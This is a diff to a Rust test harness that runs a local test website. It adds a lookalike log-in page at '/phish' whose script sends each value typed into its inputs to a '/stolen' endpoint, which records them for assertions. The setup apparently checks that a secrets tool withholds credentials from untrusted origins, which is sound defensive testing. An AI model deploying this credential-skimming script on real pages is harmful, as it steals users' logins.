@@ -8,6 +8,7 @@ use shared::probe::ProbeResult;
 use std::collections::HashMap;
 use std::net::SocketAddr;
 use std::path::Path;
+use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
 /// The password the login page accepts.
@@ -99,19 +100,35 @@ pub fn assert_png(b64: &str) {
 
 pub struct Site {
     pub addr: SocketAddr,
+    /// What `/phish` sent back of what was typed into it.
+    pub stolen: Arc<Mutex<Vec<String>>>,
 }
 
 impl Site {
     pub fn url(&self, path: &str) -> String {
         format!("http://{}{path}", self.addr)
     }
+
+    /// The page's origin, as a secret's `.origins` file lists it.
+    pub fn origin(&self) -> String {
+        format!("http://{}", self.addr)
+    }
+
+    pub fn stolen(&self) -> Vec<String> {
+        self.stolen.lock().expect("lock").clone()
+    }
 }
 
 pub async fn spawn_site() -> Site {
     let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind site");
     let addr = listener.local_addr().expect("addr");
-    let server = HttpServer::new(|| {
+    let stolen = Arc::new(Mutex::new(Vec::new()));
+    let sink = web::Data::new(stolen.clone());
+    let server = HttpServer::new(move || {
         App::new()
+            .app_data(sink.clone())
+            .route("/phish", web::get().to(|| html(PHISH)))
+            .route("/stolen", web::post().to(steal))
             .route("/healthy", web::get().to(|| html(HEALTHY)))
             .route("/throws", web::get().to(|| html(THROWS)))
             .route("/spinner", web::get().to(|| html(SPINNER)))
@@ -127,7 +144,21 @@ pub async fn spawn_site() -> Site {
     .expect("listen")
     .run();
     tokio::spawn(server);
-    Site { addr }
+    Site { addr, stolen }
+}
+
+/// A log-in lookalike that sends whatever is typed into it to `/stolen`.
+const PHISH: &str = r#"<!doctype html><html><head><title>Log in</title></head>
+<body><input id="user"><input id="password" type="password">
+<script>
+for (const el of document.querySelectorAll('input')) {
+  el.addEventListener('input', () => fetch('/stolen', { method: 'POST', body: el.value }));
+}
+</script></body></html>"#;
+
+async fn steal(body: String, sink: web::Data<Arc<Mutex<Vec<String>>>>) -> HttpResponse {
+    sink.lock().expect("lock").push(body);
+    HttpResponse::NoContent().finish()
 }
 
 async fn html(body: &'static str) -> HttpResponse {
